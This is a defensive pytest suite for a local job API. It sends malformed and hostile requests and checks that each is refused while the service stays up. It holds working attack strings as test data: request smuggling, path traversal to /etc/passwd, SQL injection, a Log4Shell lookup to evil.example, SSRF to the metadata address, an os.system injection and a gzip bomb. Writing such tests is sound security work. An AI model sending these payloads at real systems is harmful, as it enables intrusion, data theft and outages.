"""A table of what attackers send: each is answered with a refusal, or hung up on, and the service goes on."""

import gzip
import socket
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import quote

import httpx2
import pytest

from tests.api.specs import spec
from tests.servers import KEY

OPENS = f"Host: 127.0.0.1\r\nAuthorization: Bearer {KEY}\r\n"
JSON = "Content-Type: application/json\r\n"
SILENT_SECONDS = 1.0
HUNG_UP = 0
"""In place of a status."""


@pytest.fixture(autouse=True)
def _it_goes_on(lasting_api: httpx2.Client) -> Iterator[None]:
    yield
    assert lasting_api.get("/healthz").status_code == 200
    assert lasting_api.get("/v1/jobs", params={"limit": 1}).status_code == 200


def statuses(api: httpx2.Client, sent: bytes | str) -> list[int]:
    """Of all answers to what is put on a wire, until the service hangs up or says nothing more."""
    url = api.base_url
    with socket.create_connection((url.host, url.port), timeout=SILENT_SECONDS) as wire:
        with suppress(OSError):  # it may have hung up by then
            wire.sendall(sent.encode("latin-1") if isinstance(sent, str) else sent)
        content = b""
        with suppress(OSError):
            while piece := wire.recv(65_536):
                content += piece
    found = [int(part[:3]) for part in content.split(b"HTTP/1.1 ")[1:]]
    return found or [HUNG_UP]


# ── what is no HTTP, or HTTP that two programs could read in two ways ────────────────────────────


@pytest.mark.parametrize(
    ("sent", "expected"),
    [
        ("GET /v1/jobs\r\n\r\n", {400}),
        ("GET /v1/jobs HTTP/9.9\r\n\r\n", {400}),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", {400}),
        ("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + "\0" * 200, {400}),
        ("GET /v1/jobs HTTP/1.1\r\n\r\n", {400}),
        (f"GET /v1/jobs HTTP/1.1\r\n{OPENS}Host: evil.example\r\n\r\n", {400}),
        (f"GET /v1/jobs HTTP/1.1\r\n{OPENS}X: a\0b\r\n\r\n", {400}),
        (f"GET /v1/jobs HTTP/1.1\r\n{OPENS}X : 1\r\n\r\n", {400}),
        (f"GET /v1/jobs HTTP/1.1\r\n{OPENS}X: a\r\n b: folded\r\n\r\n", {200, 400}),
        (f"GET /v1/jobs HTTP/1.1\n{OPENS}\n\n", {200, 400}),
        (f"GET /v1/jobs\tHTTP/1.1\r\n{OPENS}\r\n", {400}),
        (f"GET /v1/jobs HTTP/1.1\r\n{OPENS}{'X: y' * 30_000}\r\n\r\n", {400, 431}),
        (f"GET /v1/jobs HTTP/1.1\r\n{OPENS}" + "".join(f"X-{n}: 1\r\n" for n in range(10_000)) + "\r\n", {400, 431}),
        (f"GET /v1/jobs?{'a' * 100_000} HTTP/1.1\r\n{OPENS}\r\n", {400, 414, 431}),
        (f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Content-Length: -1\r\n\r\n", {400}),
        (f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Content-Length: {'9' * 30}\r\n\r\n{{}}", {400, 413, HUNG_UP}),
        (f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{{}}", {400}),
        (f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Content-Length: 0x2\r\n\r\n{{}}", {400}),
        (f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Transfer-Encoding: gzip\r\n\r\n{{}}", {400, 501}),
        (
            f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Transfer-Encoding: xchunked\r\n\r\n2\r\n{{}}\r\n0\r\n\r\n",
            {400, 501},
        ),
        (f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Transfer-Encoding: chunked\r\n\r\n{'f' * 30}\r\n", {400, HUNG_UP}),
        (f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Transfer-Encoding: chunked\r\n\r\n-2\r\n{{}}\r\n0\r\n\r\n", {400}),
        (
            f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}Transfer-Encoding: chunked\r\n\r\n2;{'x' * 100_000}\r\n{{}}\r\n",
            {400, HUNG_UP},
        ),
    ],
)
def test_what_is_no_plain_request_is_refused_by_the_wire(
    lasting_api: httpx2.Client, sent: str, expected: set[int]
) -> None:
    assert set(statuses(lasting_api, sent)) <= expected


def test_a_body_cannot_smuggle_a_second_request_past_the_first(lasting_api: httpx2.Client) -> None:
    """Where Content-Length and Transfer-Encoding disagree, a proxy in front may have believed the other one."""
    inner = f"GET /v1/keys HTTP/1.1\r\n{OPENS}\r\n"
    both = f"Content-Length: {5 + len(inner)}\r\nTransfer-Encoding: chunked\r\n"
    found = statuses(lasting_api, f"POST /v1/jobs HTTP/1.1\r\n{OPENS}{JSON}{both}\r\n0\r\n\r\n{inner}")
    assert found == [400]


def test_the_second_request_of_a_connection_needs_a_key_of_its_own(lasting_api: httpx2.Client) -> None:
    first = f"GET /v1/jobs HTTP/1.1\r\n{OPENS}\r\n"
    second = "GET /v1/jobs HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    assert statuses(lasting_api, first + second) == [200, 401]


@pytest.mark.parametrize(
    "target",
    [
        "http://evil.example/v1/jobs",
        "http://127.0.0.1@evil.example/v1/jobs",
        "*",
        "evil.example:443",
        "//evil.example/v1/jobs",
    ],
)
def test_an_address_of_another_host_reaches_nothing(lasting_api: httpx2.Client, target: str) -> None:
    found = statuses(lasting_api, f"GET {target} HTTP/1.1\r\n{OPENS}\r\n")
    assert set(found) <= {200, 400, 404}
    if 200 in found:
        assert target.startswith("http://"), "an absolute address is told by its path; the Host header was ours"


# ── addresses ────────────────────────────────────────────────────────────────────────────────────

NAMES = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "file:///etc/passwd",
    "job_1\r\nSet-Cookie: a=b",
    "job_1%0d%0aSet-Cookie:%20a=b",
    "' OR '1'='1",
    "job_1'; DROP TABLE jobs; --",
    "%' UNION SELECT secret_sha256 FROM keys --",
    "{{7*7}}${7*7}",
    "<script>alert(1)</script>",
    "λ😀\u202e\ufeff",
    "\ud7ff\ue000",
    "a" * 5_000,
    "%",
    "%zz",
    "%c0%ae%c0%ae/",
    "%ff%fe",
    ".",
    "null",
    "-1",
    "0" * 400,
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_from_hell_names_nothing(lasting_api: httpx2.Client, name: str) -> None:
    for family in ("jobs", "runs", "sweeps", "datasets", "experiments", "keys"):
        for address in (f"/v1/{family}/{quote(name, safe='')}", f"/v1/{family}/{quote(name, safe='/%.')}"):
            answer = lasting_api.get(address)
            # A name that leads up arrives at another route, or at none; nowhere at a file.
            assert answer.status_code in (200, 307, 400, 404, 405, 422), f"{address}: {answer.status_code}"
            assert "root:" not in answer.text
            assert "set-cookie" not in answer.headers
            assert answer.is_redirect or answer.headers["Content-Type"].startswith(
                ("application/json", "application/problem+json")
            )


@pytest.mark.parametrize("path", ["../pyproject.toml", "%2e%2e/%2e%2e/app.py", "..%2f..%2fapp.py", "/etc/passwd", "."])
def test_files_of_the_documentation_page_are_those_and_no_others(lasting_api: httpx2.Client, path: str) -> None:
    url = lasting_api.base_url
    found = statuses(lasting_api, f"GET /docs/files/{path} HTTP/1.1\r\nHost: {url.host}\r\nConnection: close\r\n\r\n")
    assert set(found) <= {307, 400, 401, 404, 405}


@pytest.mark.parametrize(
    "query",
    [
        "limit=99999999999999999999999999",
        "limit=1e999",
        "limit=-1",
        "limit=NaN",
        "limit=",
        "limit=0x10",
        "limit=١",
        "limit=1&limit=2",
        "sort=sideways",
        "status=alive",
        "created_after=99999-01-01",
        "created_after=0000-00-00T00:00:00Z",
        "created_after=9999-12-31T23:59:59-23:59",
        "experiment=" + "x" * 300,
        "tag=%00",
        "%00=1",
        "unknown=1",
        "__proto__=1&constructor[prototype]=1",
    ],
)
def test_parameters_from_hell_are_refused_or_mean_what_they_say(lasting_api: httpx2.Client, query: str) -> None:
    answer = lasting_api.get(f"/v1/jobs?{query}")
    assert answer.status_code in (200, 400, 422), answer.text


def test_a_cursor_that_was_tampered_with_is_refused(lasting_api: httpx2.Client) -> None:
    for _ in range(3):
        assert lasting_api.post("/v1/jobs", json=spec()).status_code == 202
    page = lasting_api.get("/v1/jobs", params={"limit": 1}).json()
    cursor = page["next_after"]
    broken = [
        cursor[:-1],
        cursor + "A",
        cursor[::-1],
        cursor.swapcase(),
        "A" * len(cursor),
        "'",
        "e30",
        "bnVsbA",
        "%00",
    ]
    for place in range(0, len(cursor), 7):
        broken.append(cursor[:place] + ("B" if cursor[place] == "A" else "A") + cursor[place + 1 :])
    for path in (
        "/v1/jobs",
        "/v1/sweeps",
        "/v1/datasets",
        "/v1/experiments",
        "/v1/keys",
        "/v1/events",
        "/v1/test-ledger",
    ):
        for after in broken:
            answer = lasting_api.get(path, params={"after": after})
            # Some changes make another valid place in the list: it holds nothing that the list does not.
            assert answer.status_code in (200, 400, 422), f"{path} {after}: {answer.text}"


# ── bodies and headers ───────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("content_type", "status"),
    [
        ("text/plain", 415),
        ("application/x-www-form-urlencoded", 415),
        ("multipart/form-data; boundary=x", 415),
        ("application/xml", 415),
        ("application/jsonp", 415),
        ("application/json, text/html", 415),
        ("", 415),
        ("application/json; charset=utf-16", 202),
        ("APPLICATION/JSON", 202),
        ("application/merge-patch+json", 202),
    ],
)
def test_only_json_is_read_as_json(lasting_api: httpx2.Client, content_type: str, status: int) -> None:
    content = b'{"dataset": "sine", "optimizer": "adam"}'
    answer = lasting_api.post("/v1/jobs", content=content, headers={"Content-Type": content_type})
    assert answer.status_code == status


def test_a_bomb_is_not_unpacked(lasting_api: httpx2.Client) -> None:
    bomb = gzip.compress(b'{"a": "' + b"x" * 50_000_000 + b'"}')
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    assert lasting_api.post("/v1/jobs", content=bomb, headers=headers).status_code == 400


@pytest.mark.parametrize(
    "changes",
    [
        {"seeds": 10**18},
        {"seeds": [2**63]},
        {"budget": {"steps": 10**9}},
        {"budget": {"steps": 10**300}},
        {"budget": {"steps": 1.0e15}},
        {"network": {"kind": "mlp", "hidden": [8_192] * 64}},
        {"network": {"kind": "mlp", "hidden": [1] * 10_000}},
        {"dataset": {"kind": "sine", "samples": 10**12}},
        {"optimizer": {"kind": "adam", "learning_rate": 1e308}},
        {"name": "x" * 100_000},
        {"tags": ["x"] * 10_000},
        {"record": {"every_steps": 1}, "budget": {"steps": 10_000_000}},
        {"__proto__": {"admin": True}},
        {"owner": "admin"},
        {"id": "job_1"},
        {"status": "succeeded"},
        {"dataset": {"kind": "uploaded", "id": "../../../etc/passwd"}},
        {"dataset": {"kind": "uploaded", "id": "file:///etc/passwd"}},
        {"dataset": {"kind": "uploaded", "id": "http://169.254.169.254/latest/meta-data"}},
        {"optimizer": {"kind": "__import__('os').system('id')"}},
        {"optimizer": {"kind": ["adam"]}},
        {"name": "\u202eevil\x07"},
    ],
)
def test_a_spec_that_asks_for_the_moon_is_refused(lasting_api: httpx2.Client, changes: dict[str, object]) -> None:
    answer = lasting_api.post("/v1/jobs", json=spec() | changes)
    assert answer.status_code == 422, answer.text
    assert answer.json()["errors"]


@pytest.mark.parametrize(
    "header",
    [
        "X-Request-ID: req\tid",
        "X-Request-ID: " + "x" * 10_000,
        "X-Request-ID: {${jndi:ldap://evil.example/a}}",
        "X-Forwarded-For: 127.0.0.1",
        "X-Forwarded-Host: evil.example",
        "X-Original-URL: /v1/keys",
        "X-HTTP-Method-Override: DELETE",
        "If-None-Match: " + '"x",' * 200,
        "If-None-Match: *",
        "Last-Event-ID: ../../1",
        "Range: bytes=0-18446744073709551615",
        "Accept: " + "a/b," * 5_000,
        "Accept-Encoding: identity;q=0",
        "Expect: 100-continue",
        "Upgrade: websocket\r\nConnection: Upgrade",
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        "Cookie: key=" + "x" * 10_000,
    ],
)
def test_headers_from_hell_change_nothing(lasting_api: httpx2.Client, header: str) -> None:
    found = statuses(lasting_api, f"GET /v1/jobs?limit=1 HTTP/1.1\r\n{OPENS}Connection: close\r\n{header}\r\n\r\n")
    assert set(found) <= {200, 304, 400, 422}, found


def test_an_id_of_a_request_that_could_forge_a_line_of_the_log_is_replaced(lasting_api: httpx2.Client) -> None:
    answer = lasting_api.get("/healthz", headers={"X-Request-ID": 'a" level="info'})
    assert answer.headers["X-Request-ID"].startswith("req_")
